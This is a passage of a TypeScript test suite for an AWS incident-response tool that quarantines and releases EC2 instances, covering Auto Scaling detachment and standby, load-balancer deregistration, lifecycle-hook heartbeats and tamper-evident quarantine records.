  it('takes an ip target for the instance only at an address of its ENI in the target group\'s VPC: the same address on an ENI of another VPC is another interface\'s target (row 3n)', async () => {
    givenLoadBalancers();
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    // ENI B is in another VPC whose range holds 10.0.1.10 too; in the target group's VPC, 10.0.1.10 is someone else's.
    const instance = describedInstance({ enis: [{ id: ENI_A, groups: [APP_SG] }, { id: ENI_B, groups: [DB_SG], vpcId: OTHER_VPC }] });
    instance.NetworkInterfaces = instance.NetworkInterfaces?.map((eni) => ({ ...eni, PrivateIpAddresses: [{ PrivateIpAddress: eni.NetworkInterfaceId === ENI_A ? '10.0.1.5' : '10.0.1.10', Primary: true }] }));
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [instance] }] });
    const result = await quarantine();
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([{ TargetGroupArn: WEB_TG, Targets: [{ Id: INSTANCE_ID, Port: 80 }] }]);
    expect(result.preQuarantine?.loadBalancers?.targets.map((t) => t.targetId)).toEqual([INSTANCE_ID]);
  });

  it("leaves the group's own target group to the group as it lets the instance go, and records it as the group's", async () => {
    givenGroup();
    givenLoadBalancers();
    const result = await quarantine();
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([]);
    expect(result.preQuarantine?.loadBalancers?.targets).toEqual([{ targetGroupArn: WEB_TG, targetId: INSTANCE_ID, port: 80, managedByGroup: true }]);
    expect(inputsOf(elbMock, DeregisterInstancesFromLoadBalancerCommand)).toEqual([{ LoadBalancerName: LEGACY_LB, Instances: [{ InstanceId: INSTANCE_ID }] }]);
  });

  it('treats a target group deleted in between as nothing left to deregister', async () => {
    givenLoadBalancers();
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    elbv2Mock.on(DeregisterTargetsCommand).rejects(sdkError('TargetGroupNotFoundException'));
    const result = await quarantine();
    expect(result.actions.find((a) => a.api === 'elasticloadbalancing:DeregisterTargets')?.outcome).toBe('skipped');
  });
});

describe('the fleet part of the record', () => {
  const base = recordOfDefaultInstance('gd-key', '2026-11-20T10:02:00.000Z');
  const autoScaling: AutoScalingRecord = { groupName: GROUP, mode: 'detach', lifecycleState: 'InService', protectedFromScaleIn: false, desiredCapacity: 2, minSize: 1, maxSize: 4 };

  it('adds nothing to the sealed form of a record without it, so older records keep their MAC', () => {
    expect(canonicalRecord(base)).not.toContain('autoScaling');
    expect(canonicalRecord(base)).not.toContain('loadBalancers');
  });

  it('is sealed: another group name or target group changes the MAC input', () => {
    const withFleet: QuarantineRecord = { ...base, autoScaling, loadBalancers: { targets: [{ targetGroupArn: WEB_TG, targetId: INSTANCE_ID, port: 80, managedByGroup: false }], classic: [] } };
    expect(canonicalRecord({ ...withFleet, autoScaling: { ...autoScaling, groupName: 'attacker-asg' } })).not.toEqual(canonicalRecord(withFleet));
    expect(canonicalRecord({ ...withFleet, loadBalancers: { targets: [{ targetGroupArn: ADMIN_TG, targetId: INSTANCE_ID, port: 80, managedByGroup: false }], classic: [] } })).not.toEqual(
      canonicalRecord(withFleet),
    );
    expect(canonicalRecord({ ...withFleet, autoScaling: undefined } as QuarantineRecord)).not.toEqual(canonicalRecord(withFleet));
  });

  it("seals an ip target's ENI, and a target without one keeps the sealed form records written before had (row 3n)", () => {
    const ip = { targetGroupArn: ADMIN_TG, targetId: '10.0.1.10', port: 8443, availabilityZone: `${REGION}a`, managedByGroup: false };
    const older: QuarantineRecord = { ...base, loadBalancers: { targets: [ip], classic: [] } };
    // Sorted keys: nothing between managedByGroup and port in a target written before.
    expect(canonicalRecord(older)).toContain('"managedByGroup":false,"port":8443');
    const withEni: QuarantineRecord = { ...base, loadBalancers: { targets: [{ ...ip, networkInterfaceId: ENI_A }], classic: [] } };
    expect(canonicalRecord(withEni)).not.toEqual(canonicalRecord(older));
    expect(canonicalRecord({ ...base, loadBalancers: { targets: [{ ...ip, networkInterfaceId: ENI_B }], classic: [] } })).not.toEqual(canonicalRecord(withEni));
  });
});

describe('ipTargetRefusal (rows 3k, 3n)', () => {
  const inVpc = (id: string, addresses: string[], vpcId = VPC) => ({ networkInterfaceId: id, vpcId, addresses });
  const recorded = new Set([ENI_A, ENI_B]);

  it('registers the instance itself, and an address while the recorded ENI holds it', () => {
    expect(ipTargetRefusal({ targetId: INSTANCE_ID }, INSTANCE_ID, [], recorded)).toBeUndefined();
    expect(ipTargetRefusal({ targetId: '10.0.1.10', networkInterfaceId: ENI_A }, INSTANCE_ID, [inVpc(ENI_A, ['10.0.1.5', '10.0.1.10'])], recorded)).toBeUndefined();
  });

  it('refuses an address the recorded ENI no longer holds, even when another ENI of the instance does', () => {
    const why = ipTargetRefusal({ targetId: '10.0.1.10', networkInterfaceId: ENI_A }, INSTANCE_ID, [inVpc(ENI_A, ['10.0.1.5']), inVpc(ENI_B, ['10.0.1.10'], OTHER_VPC)], recorded);
    expect(why).toContain(`not held by ${ENI_A}`);
    expect(why).toContain(`${ENI_B} of the instance holds it now`);
  });

  it('for a record naming no ENI: an address on an ENI attached at capture, in one VPC, is registered; on an ENI attached since, or with ENIs in several VPCs, it is not', () => {
    expect(ipTargetRefusal({ targetId: '10.0.1.10' }, INSTANCE_ID, [inVpc(ENI_A, ['10.0.1.10']), inVpc(ENI_B, ['10.0.1.20'])], recorded)).toBeUndefined();
    expect(ipTargetRefusal({ targetId: '10.0.1.10' }, INSTANCE_ID, [inVpc(ENI_A, ['10.0.1.5']), inVpc('eni-0attached0since00', ['10.0.1.10'], OTHER_VPC)], recorded)).toContain('on an ENI it had at quarantine');
    expect(ipTargetRefusal({ targetId: '10.0.1.10' }, INSTANCE_ID, [inVpc(ENI_A, ['10.0.1.10']), inVpc(ENI_B, ['10.0.1.20'], OTHER_VPC)], recorded)).toContain('several VPCs');
    // ENI B detached since: it may have been the one of the target group's VPC, the address then another's there.
    expect(ipTargetRefusal({ targetId: '10.0.1.10' }, INSTANCE_ID, [inVpc(ENI_A, ['10.0.1.10'])], recorded)).toContain('not every ENI');
  });
});

describe('playbook options', () => {
  const quarantineOptions = ACTIONS['quarantine-instance'].options;
  const releaseOptions = ACTIONS['release-instance'].options;

  it('default to off, and refuse an unknown Auto Scaling mode naming the option', () => {
    expect(quarantineOptions.parse({})).toMatchObject({ autoScaling: 'off', deregisterFromLoadBalancers: false });
    expect(releaseOptions.parse({})).toMatchObject({ restoreAutoScaling: false, restoreLoadBalancers: false });
    const refused = quarantineOptions.safeParse({ autoScaling: 'terminate' });
    expect(refused.success).toBe(false);
    expect(JSON.stringify(refused.error?.issues)).toContain('autoScaling');
    expect(quarantineOptions.safeParse({ deregisterFromLoadBalancers: 'yes' }).success).toBe(false);
  });

  it('grant the Auto Scaling and ELB actions only when a step turns them on, and only the mode it uses', () => {
    // iam:GetInstanceProfile: the role ids of the instance's profile, for the record (row 3f).
    expect(iamActionsForStep('quarantine-instance', {}).filter((a) => !a.startsWith('ec2:'))).toEqual(['iam:GetInstanceProfile']);
    expect(iamActionsForStep('quarantine-instance', { detachInstanceProfile: false }).filter((a) => !a.startsWith('ec2:'))).toEqual([]);
    const detach = iamActionsForStep('quarantine-instance', { autoScaling: 'detach' });
    expect(detach).toContain('autoscaling:DetachInstances');
    expect(detach).not.toContain('autoscaling:EnterStandby');
    expect(iamActionsForStep('quarantine-instance', { autoScaling: 'standby' })).toContain('autoscaling:EnterStandby');
    expect(iamActionsForStep('quarantine-instance', { deregisterFromLoadBalancers: true })).toEqual(
      expect.arrayContaining(['elasticloadbalancing:DeregisterTargets', 'elasticloadbalancing:DeregisterInstancesFromLoadBalancer', 'elasticloadbalancing:DescribeTargetHealth']),
    );
    expect(iamActionsForStep('release-instance', { restoreAutoScaling: true, restoreLoadBalancers: true })).toEqual(
      expect.arrayContaining(['autoscaling:AttachInstances', 'autoscaling:ExitStandby', 'elasticloadbalancing:RegisterTargets', 'elasticloadbalancing:RegisterInstancesWithLoadBalancer']),
    );
  });
});

describe('ATTACK (pending-wait): an instance held in Pending:Wait by a launch hook', () => {
  // Its credentials are taken with the quarantine, so it cannot complete its own hook; at the hook's
  // timeout ABANDON (the default) has the group terminate it, memory and instance store with it.
  const HOOKS = [
    { LifecycleHookName: 'warm-cache', LifecycleTransition: 'autoscaling:EC2_INSTANCE_LAUNCHING', HeartbeatTimeout: 600 },
    { LifecycleHookName: 'register-dns', LifecycleTransition: 'autoscaling:EC2_INSTANCE_LAUNCHING', HeartbeatTimeout: 3600 },
    { LifecycleHookName: 'ship-logs', LifecycleTransition: 'autoscaling:EC2_INSTANCE_TERMINATING', HeartbeatTimeout: 300 },
  ];
  const heartbeatsOf = (result: { actions: readonly { api: string; outcome: string; detail: string }[] }) => result.actions.filter((a) => a.api === 'autoscaling:RecordLifecycleActionHeartbeat');

  it('ATTACK (pending-wait): records a heartbeat for each launch hook by instance id, beside the ENI moves, once the record is written', async () => {
    givenGroup('Pending:Wait', {}, HOOKS);
    // The heartbeat answers only once both ENIs are in the isolation group: were it on the path
    // before the moves, quarantine would never finish. The record is written before it is sent.
    const isolatedMoves = () => inputsOf(ec2Mock, ModifyNetworkInterfaceAttributeCommand).filter((i) => i.Groups?.[0] === ISOLATION_SG).length;
    const recordedFirst: boolean[] = [];
    asMock.on(RecordLifecycleActionHeartbeatCommand).callsFake(async () => {
      recordedFirst.push((await records.get(ACCOUNT, REGION, INSTANCE_ID)) !== undefined);
      for (let waited = 0; isolatedMoves() < 2; waited += 1) {
        if (waited > 200) throw new Error('the ENI moves waited for the heartbeat');
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
      return {};
    });
    const result = await quarantine({ deregisterFromLoadBalancers: false });
    expect(result.status).toBe('quarantined');
    expect(inputsOf(asMock, RecordLifecycleActionHeartbeatCommand)).toEqual([
      { AutoScalingGroupName: GROUP, LifecycleHookName: 'warm-cache', InstanceId: INSTANCE_ID },
      { AutoScalingGroupName: GROUP, LifecycleHookName: 'register-dns', InstanceId: INSTANCE_ID },
    ]);
    expect(recordedFirst).toEqual([true, true]);
    // It cannot leave the group in Pending:Wait: nothing else is sent to the group.
    for (const command of [SetInstanceProtectionCommand, DetachInstancesCommand, EnterStandbyCommand]) expect(asMock.commandCalls(command as never)).toHaveLength(0);
    const beats = heartbeatsOf(result);
    expect(beats.map((a) => a.outcome)).toEqual(['done', 'done']);
    expect(beats[0]?.detail).toContain('under launch hook warm-cache of group web-asg by 600 s from now (AWS ends it at most 60000 s after it began)');
    expect(beats[1]?.detail).toContain('by 3600 s from now (AWS ends it at most 172800 s after it began)');
    // The warning: what was done, the cap, and what a person must do before the wait ends.
    const warning = result.fleet?.warnings?.join(' ') ?? '';
    expect(warning).toContain('warm-cache (timeout 600 s), register-dns (timeout 3600 s)');
    expect(warning).toContain('min(48 h, 100 x timeout)');
    expect(warning).toContain('complete each hook with CONTINUE then detach the instance at once');
    expect(warning).toContain(`aws autoscaling record-lifecycle-action-heartbeat --auto-scaling-group-name ${GROUP} --lifecycle-hook-name <hook> --instance-id ${INSTANCE_ID}`);
    // The record says where it stayed, so release knows it never left.
    expect(result.preQuarantine?.autoScaling).toMatchObject({ groupName: GROUP, lifecycleState: 'Pending:Wait' });
    expect(inputsOf(ec2Mock, ModifyNetworkInterfaceAttributeCommand).filter((i) => i.Groups?.[0] === ISOLATION_SG)).toHaveLength(2);
  });

  it('in dry-run sends no heartbeat and says, per hook, what it would do', async () => {
    givenGroup('Pending:Wait', {}, HOOKS);
    givenDryRunsSucceed();
    const result = await quarantine({ deregisterFromLoadBalancers: false }, 'dry-run');
    expect(asMock.commandCalls(RecordLifecycleActionHeartbeatCommand)).toHaveLength(0);
    const beats = heartbeatsOf(result);
    expect(beats.map((a) => a.outcome)).toEqual(['would-do', 'would-do']);
    expect(beats[0]?.detail).toContain('Would extend the Pending:Wait of');
    expect(beats[0]?.detail).toContain('cannot dry-run');
  });

  it('a denied heartbeat does not stop the other hook\'s, and fails the step once the ENIs are isolated', async () => {
    givenGroup('Pending:Wait', {}, HOOKS);
    asMock.on(RecordLifecycleActionHeartbeatCommand, { LifecycleHookName: 'warm-cache' }).rejects(sdkError('AccessDenied', 403));
    asMock.on(RecordLifecycleActionHeartbeatCommand, { LifecycleHookName: 'register-dns' }).resolves({});
    await expect(quarantine({ deregisterFromLoadBalancers: false })).rejects.toBeInstanceOf(ResponderAccessDeniedError);
    expect(inputsOf(asMock, RecordLifecycleActionHeartbeatCommand).map((i) => i.LifecycleHookName)).toEqual(['warm-cache', 'register-dns']);
    expect(inputsOf(ec2Mock, ModifyNetworkInterfaceAttributeCommand).filter((i) => i.Groups?.[0] === ISOLATION_SG)).toHaveLength(2);
  });

  it('says a hook whose action is no longer active (completed or timed out since the read) has nothing to extend, and does not fail', async () => {
    givenGroup('Pending:Wait', {}, HOOKS);
    asMock
      .on(RecordLifecycleActionHeartbeatCommand, { LifecycleHookName: 'warm-cache' })
      .rejects(Object.assign(new Error(`No active Lifecycle Action found with instance ID ${INSTANCE_ID}`), { name: 'ValidationError', $fault: 'client', $metadata: { httpStatusCode: 400 } }));
    asMock.on(RecordLifecycleActionHeartbeatCommand, { LifecycleHookName: 'register-dns' }).resolves({});
    const result = await quarantine({ deregisterFromLoadBalancers: false });
    expect(result.status).toBe('quarantined');
    expect(heartbeatsOf(result).map((a) => [a.outcome, a.detail])).toEqual([
      ['skipped', expect.stringContaining('No lifecycle action of hook warm-cache is active') as unknown],
      ['done', expect.stringContaining(`Extend the Pending:Wait of ${INSTANCE_ID} under launch hook register-dns`) as unknown],
    ]);
  });

  it('is not "already quarantined" while a launch hook holds it: a new execution for the isolated instance heartbeats again', async () => {
    givenIsolatedInstance();
    givenGroup('Pending:Wait', {}, HOOKS);
    asMock.on(RecordLifecycleActionHeartbeatCommand).resolves({});
    const result = await quarantine({ deregisterFromLoadBalancers: false });
    expect(result.status).toBe('quarantined');
    expect(inputsOf(asMock, RecordLifecycleActionHeartbeatCommand).map((i) => i.LifecycleHookName)).toEqual(['warm-cache', 'register-dns']);
  });

  it('ATTACK (review-3q): a later run that finds it InService records the group it takes it out of, so that release puts it back (the Pending:Wait record never blocks it)', async () => {
    // The person completed the hook with CONTINUE (as the warning says), or its default result was
    // CONTINUE: the group put the isolated instance in service, and a new execution (a retry, the
    // finding updated) detaches it. The kept record said Pending:Wait: release would have answered
    // "never took it out" and left it outside its group for good, the summary a false statement.
    givenGroup('Pending:Wait', {}, HOOKS);
    asMock.on(RecordLifecycleActionHeartbeatCommand).resolves({});
    const first = await quarantine({ deregisterFromLoadBalancers: false });
    expect(first.preQuarantine?.autoScaling).toMatchObject({ lifecycleState: 'Pending:Wait' });
    const capturedAt = first.preQuarantine?.capturedAt;
    givenGroup('InService', {}, HOOKS);
    const second = await quarantine({ deregisterFromLoadBalancers: false });
    expect(second.status).toBe('quarantined');
    expect(inputsOf(asMock, DetachInstancesCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID], ShouldDecrementDesiredCapacity: false }]);
    const kept = await records.get(ACCOUNT, REGION, INSTANCE_ID);
    // The original capture is kept (its ENI groups, its time); only the group it leaves now is new.
    expect(kept?.capturedAt).toBe(capturedAt);
    expect(kept?.autoScaling).toMatchObject({ groupName: GROUP, lifecycleState: 'InService', mode: 'detach', protectedFromScaleIn: false });
    expect(second.preQuarantine?.autoScaling).toMatchObject({ lifecycleState: 'InService' });
  });

  it('sends no heartbeat when no launch hook holds it (Pending:Wait with none listed, or Pending)', async () => {
    givenGroup('Pending:Wait', {}, [HOOKS[2]!]);
    const result = await quarantine({ deregisterFromLoadBalancers: false });
    expect(asMock.commandCalls(RecordLifecycleActionHeartbeatCommand)).toHaveLength(0);
    expect(result.preQuarantine?.autoScaling).toBeUndefined();
    expect(result.fleet?.warnings?.join(' ')).toContain('could not be taken out of group');
    givenGroup('Pending', {}, HOOKS);
    await quarantine({ deregisterFromLoadBalancers: false });
    expect(asMock.commandCalls(RecordLifecycleActionHeartbeatCommand)).toHaveLength(0);
  });
});

describe('planAutoScaling and planAutoScalingReturn', () => {
  const observed = {
    groupName: GROUP,
    groupArn: GROUP_ARN,
    createdTime: '2026-11-01T00:00:00.000Z',
    minSize: 1,
    maxSize: 3,
    desiredCapacity: 3,
    healthCheckType: 'ELB',
    suspendedProcesses: [],
    targetGroupArns: [],
    loadBalancerNames: [],
    lifecycleHooks: [],
  };
  const record: AutoScalingRecord = { groupName: GROUP, mode: 'detach', lifecycleState: 'InService', protectedFromScaleIn: false, desiredCapacity: 2, minSize: 1, maxSize: 3 };
  const CAPTURED = '2026-11-20T10:02:00.000Z';

  it('leaves an instance that is still launching in the group, and warns', () => {
    const plan = planAutoScaling({ kind: 'member', groupName: GROUP, lifecycleState: 'Pending:Wait', protectedFromScaleIn: false, group: observed }, INSTANCE_ID, 'detach');
    expect(plan.leave).toBe('none');
    expect(plan.record).toBeUndefined();
    expect(plan.warnings.join(' ')).toContain('Pending:Wait');
  });

  it('warns that a launch hook left to time out terminates an instance held in Pending:Wait, naming the hook and its timeout', () => {
    // Its credentials are taken with the quarantine: it can no longer complete its own hook.
    const hooked = { ...observed, lifecycleHooks: [{ name: 'warm-cache', transition: 'autoscaling:EC2_INSTANCE_LAUNCHING', heartbeatTimeout: 3600 }] };
    const plan = planAutoScaling({ kind: 'member', groupName: GROUP, lifecycleState: 'Pending:Wait', protectedFromScaleIn: false, group: hooked }, INSTANCE_ID, 'detach');
    expect(plan.warnings).toEqual([expect.stringContaining('launch hook(s) warm-cache (timeout 3600 s)')]);
    expect(plan.warnings[0]).toContain('ABANDON (the default) terminates it');
    // ATTACK (pending-wait): the hook's wait is extended (heartbeat), and the record says it never left.
    expect(plan.heartbeat).toEqual([hooked.lifecycleHooks[0]]);
    expect(plan.record).toMatchObject({ groupName: GROUP, lifecycleState: 'Pending:Wait' });
    // Another state that cannot leave keeps the health-check warning.
    const pending = planAutoScaling({ kind: 'member', groupName: GROUP, lifecycleState: 'Pending', protectedFromScaleIn: false, group: hooked }, INSTANCE_ID, 'detach');
    expect(pending.warnings[0]).toContain('health checks');
  });

  it('leaves the instance out of a group at its maximum size, of a deleted group, and of another group', () => {
    expect(planAutoScalingReturn(record, { kind: 'no-group' }, observed, CAPTURED)).toMatchObject({ action: 'leave-out', why: expect.stringContaining('maximum size') });
    expect(planAutoScalingReturn(record, { kind: 'no-group' }, undefined, CAPTURED)).toMatchObject({ action: 'leave-out', why: expect.stringContaining('no longer exists') });
    expect(planAutoScalingReturn(record, { kind: 'member', groupName: 'other', lifecycleState: 'InService', protectedFromScaleIn: false }, observed, CAPTURED)).toMatchObject({ action: 'leave-out' });
  });

  it('tells the recorded group from one created again under its name: by ARN when recorded, else by creation time (row 3j)', () => {
    const again = { ...observed, desiredCapacity: 2, groupArn: GROUP_ARN.replace('11111111', '99999999'), createdTime: '2026-11-25T08:00:00.000Z' };
    expect(planAutoScalingReturn(record, { kind: 'no-group' }, again, CAPTURED)).toMatchObject({ action: 'leave-out', why: expect.stringContaining('created after the capture') as unknown });
    expect(planAutoScalingReturn({ ...record, groupArn: GROUP_ARN }, { kind: 'no-group' }, { ...again, createdTime: '2026-11-01T00:00:00.000Z' }, CAPTURED)).toMatchObject({
      action: 'leave-out',
      why: expect.stringContaining('not the one the instance was taken out of') as unknown,
    });
    expect(planAutoScalingReturn({ ...record, groupArn: GROUP_ARN }, { kind: 'no-group' }, { ...observed, desiredCapacity: 2 }, CAPTURED)).toMatchObject({ action: 'attach' });
    // A group that says neither cannot be told apart: left out.
    const { createdTime: _created, ...undated } = { ...observed, desiredCapacity: 2 };
    expect(planAutoScalingReturn(record, { kind: 'no-group' }, undated, CAPTURED)).toMatchObject({ action: 'leave-out' });
    // On standby in a same-named group of another ARN (someone attached it there): not taken out of standby.
    expect(
      planAutoScalingReturn({ ...record, mode: 'standby', groupArn: GROUP_ARN }, { kind: 'member', groupName: GROUP, lifecycleState: 'Standby', protectedFromScaleIn: true, group: again }, again, CAPTURED),
    ).toMatchObject({ action: 'leave-out', api: 'autoscaling:ExitStandby' });
  });

  it('counts a creation time in the capture\'s second as after it (a service giving whole seconds), and one before that second as before (row 3m)', () => {
    expect(createdSinceCapture('2026-11-20T10:02:00.000Z', '2026-11-20T10:02:00.700Z')).toBe(true);
    expect(createdSinceCapture(new Date('2026-11-20T10:02:00.999Z'), '2026-11-20T10:02:00.100Z')).toBe(true);
    expect(createdSinceCapture('2026-11-20T10:01:59.999Z', '2026-11-20T10:02:00.700Z')).toBe(false);
    expect(createdSinceCapture('not a time', '2026-11-20T10:02:00.700Z')).toBe(true);
    const sameSecond = { ...observed, desiredCapacity: 2, createdTime: CAPTURED.replace(/\.\d{3}Z$/, '.000Z') };
    expect(planAutoScalingReturn(record, { kind: 'no-group' }, sameSecond, CAPTURED)).toMatchObject({ action: 'leave-out' });
  });

  it('leaves a member of a group Auto Scaling does not describe as it is, on standby or in service (row 3o)', () => {
    for (const lifecycleState of ['Standby', 'InService']) {
      const plan = planAutoScalingReturn({ ...record, mode: 'standby', groupArn: GROUP_ARN }, { kind: 'member', groupName: GROUP, lifecycleState, protectedFromScaleIn: true }, undefined, CAPTURED);
      expect(plan).toMatchObject({ action: 'leave-out', outcome: 'skipped', why: expect.stringContaining('could not be described') as unknown });
    }
  });

  it('attaches a detached instance and exits standby for one on standby, setting protection back', () => {
    expect(planAutoScalingReturn(record, { kind: 'no-group' }, { ...observed, desiredCapacity: 2 }, CAPTURED)).toMatchObject({ action: 'attach', protect: false });
    expect(
      planAutoScalingReturn({ ...record, mode: 'standby' }, { kind: 'member', groupName: GROUP, lifecycleState: 'Standby', protectedFromScaleIn: true, group: { ...observed, desiredCapacity: 2 } }, observed, CAPTURED),
    ).toMatchObject({ action: 'exit-standby', protect: false });
    // On standby in a group at its maximum size: ExitStandby would be refused, so it stays on standby.
    expect(
      planAutoScalingReturn({ ...record, mode: 'standby' }, { kind: 'member', groupName: GROUP, lifecycleState: 'Standby', protectedFromScaleIn: true, group: { ...observed, desiredCapacity: 3 } }, observed, CAPTURED),
    ).toMatchObject({ action: 'leave-out', outcome: 'skipped', api: 'autoscaling:ExitStandby', why: expect.stringContaining('maximum size') as unknown });
  });
});

describe('releaseInstance with a fleet record', () => {
  const APPROVED: ReleaseClearance = {
    // Cleared by the guard at the record as the release reads it (its claim serial bound in the grant).
    check: async (_input, record) => ({ cleared: true, approvedBy: 'arn:aws:sts::111122223333:assumed-role/on-call/carol', approvedAt: '2026-11-27T16:29:00.000Z', executionArn: 'arn:aws:states:eu-west-1:111122223333:execution:Firebreak-release-instance:r', mode: 'enforce', releaseRecord: { capturedAt: record.capturedAt, claimSerial: record.claimSerial ?? 0 } }),
  };
  const autoScaling: AutoScalingRecord = { groupName: GROUP, mode: 'detach', lifecycleState: 'InService', protectedFromScaleIn: false, desiredCapacity: 2, minSize: 1, maxSize: 4 };
  const loadBalancers: LoadBalancerRecord = {
    targets: [
      { targetGroupArn: WEB_TG, targetId: INSTANCE_ID, port: 80, managedByGroup: true },
      { targetGroupArn: ADMIN_TG, targetId: '10.0.1.10', port: 8443, availabilityZone: `${REGION}a`, managedByGroup: false },
      { targetGroupArn: `arn:aws:elasticloadbalancing:${REGION}:999999999999:targetgroup/foreign/1234`, targetId: INSTANCE_ID, port: 80, managedByGroup: false },
    ],
    classic: [{ loadBalancerName: LEGACY_LB, managedByGroup: false }],
  };

  beforeEach(() => {
    // The recorded Classic Load Balancer, created long before the capture (row 3l).
    elbMock.on(DescribeLoadBalancersCommand).resolves({ LoadBalancerDescriptions: [{ LoadBalancerName: LEGACY_LB, VPCId: VPC, CreatedTime: new Date('2025-01-01T00:00:00.000Z'), Instances: [] }] });
  });

  async function release(options: Partial<ReleaseOptions> = {}, mode: ResponderMode = 'enforce', recorded: AutoScalingRecord = autoScaling, addresses: readonly string[] = ['10.0.1.10']) {
    await records.saveIfAbsent(await sealed({ ...recordOfDefaultInstance(ec2Incident().key, '2026-11-20T10:02:00.000Z'), autoScaling: recorded, loadBalancers }));
    givenInstance(ec2Mock, { enis: [{ id: ENI_A, groups: [ISOLATION_SG] }, { id: ENI_B, groups: [ISOLATION_SG] }], tags: { 'firebreak:status': 'quarantined' } });
    // The instance's private addresses now (the ip target group registers 10.0.1.10 by address).
    const described = describedInstance({ enis: [{ id: ENI_A, groups: [ISOLATION_SG] }, { id: ENI_B, groups: [ISOLATION_SG] }], tags: { 'firebreak:status': 'quarantined' } });
    described.NetworkInterfaces = described.NetworkInterfaces?.map((eni, index) => (index === 0 ? { ...eni, PrivateIpAddresses: addresses.map((PrivateIpAddress) => ({ PrivateIpAddress })) } : eni));
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [described] }] });
    ec2Mock.on(DescribeSecurityGroupsCommand).resolves({
      SecurityGroups: [APP_SG, DB_SG, MON_SG].map((GroupId) => ({ GroupId, OwnerId: ACCOUNT, VpcId: VPC, GroupName: GroupId })),
    });
    return releaseInstance(
      { incident: ec2Incident(), mode, options: { restoreInstanceProfile: true, restoreAutoScaling: true, restoreLoadBalancers: true, ...options } },
      { clients, logger: silentLogger, records, sealer: TEST_SEALER, clearance: APPROVED, environment: { FIREBREAK_MODE: 'enforce' }, now: () => NOW },
    );
  }

  it('attaches the instance to its group again, sets its protection back, and registers it where the group does not', async () => {
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group({ DesiredCapacity: 2 })] });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    const result = await release();
    expect(result.status).toBe('released');
    expect(inputsOf(asMock, AttachInstancesCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID] }]);
    expect(inputsOf(asMock, SetInstanceProtectionCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID], ProtectedFromScaleIn: false }]);
    expect(inputsOf(elbv2Mock, RegisterTargetsCommand)).toEqual([{ TargetGroupArn: ADMIN_TG, Targets: [{ Id: '10.0.1.10', Port: 8443, AvailabilityZone: `${REGION}a` }] }]);
    // The recorded Classic Load Balancer is read first, by name: created before the capture, it is the one (row 3l).
    expect(inputsOf(elbMock, DescribeLoadBalancersCommand)).toEqual([{ LoadBalancerNames: [LEGACY_LB] }]);
    expect(inputsOf(elbMock, RegisterInstancesWithLoadBalancerCommand)).toEqual([{ LoadBalancerName: LEGACY_LB, Instances: [{ InstanceId: INSTANCE_ID }] }]);
    expect(result.actions.find((a) => a.target.includes('999999999999'))?.detail).toContain('Refused');
    expect(result.fleet?.autoScaling).toBe(`back in group ${GROUP}`);
  });

  it('ATTACK (pending-wait): says there is nothing to restore to the group of an instance quarantine never took out (Pending:Wait), and calls Auto Scaling for nothing', async () => {
    const result = await release({}, 'enforce', { ...autoScaling, lifecycleState: 'Pending:Wait' });
    expect(result.status).toBe('released');
    expect(asMock.calls()).toHaveLength(0);
    expect(result.fleet?.autoScaling).toContain(`Quarantine never took ${INSTANCE_ID} out of group ${GROUP}`);
    expect(result.actions.find((a) => a.api === 'autoscaling:AttachInstances')).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining('nothing to restore to the group') as unknown });
    // The option off says the same (it never left), not "stays out of the group".
    const off = await release({ restoreAutoScaling: false }, 'enforce', { ...autoScaling, lifecycleState: 'Pending:Wait' });
    expect(off.fleet?.autoScaling).toContain('never took');
  });

  it('takes an instance quarantine put on standby out of standby in its group (ExitStandby), and sets its protection back', async () => {
    // What standby mode left: the instance still a member of the group, on standby, protected by quarantine.
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({
      AutoScalingInstances: [
        { InstanceId: INSTANCE_ID, AutoScalingGroupName: GROUP, LifecycleState: 'Standby', HealthStatus: 'HEALTHY', AvailabilityZone: `${REGION}a`, ProtectedFromScaleIn: true },
      ],
    });
    asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [group({ DesiredCapacity: 2 })] });
    asMock.on(DescribeLifecycleHooksCommand).resolves({ LifecycleHooks: [] });
    const result = await release({}, 'enforce', { ...autoScaling, mode: 'standby' });
    expect(result.status).toBe('released');
    expect(inputsOf(asMock, DescribeAutoScalingInstancesCommand)).toEqual([{ InstanceIds: [INSTANCE_ID] }]);
    // The group it is still in is read once, through the membership (not again by the recorded name).
    expect(inputsOf(asMock, DescribeAutoScalingGroupsCommand)).toEqual([{ AutoScalingGroupNames: [GROUP] }]);
    expect(inputsOf(asMock, ExitStandbyCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID] }]);
    expect(asMock.commandCalls(AttachInstancesCommand)).toHaveLength(0);
    expect(inputsOf(asMock, SetInstanceProtectionCommand)).toEqual([{ AutoScalingGroupName: GROUP, InstanceIds: [INSTANCE_ID], ProtectedFromScaleIn: false }]);
    // Out of standby first, then the protection it had before quarantine.
    const order = asMock.calls().map((call) => call.args[0].constructor.name);
    expect(order.indexOf('ExitStandbyCommand')).toBeLessThan(order.indexOf('SetInstanceProtectionCommand'));
    expect(result.actions.find((a) => a.api === 'autoscaling:ExitStandby')).toMatchObject({ outcome: 'done', detail: expect.stringContaining('desired capacity will be 3') as unknown });
    expect(result.fleet?.autoScaling).toBe(`back in group ${GROUP}`);
  });

  it('leaves an instance on standby there when its group is at its maximum size, saying so, rather than fail the release after the network is back', async () => {
    // ExitStandby raises the desired capacity by one; past the maximum, Auto Scaling refuses it.
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({
      AutoScalingInstances: [
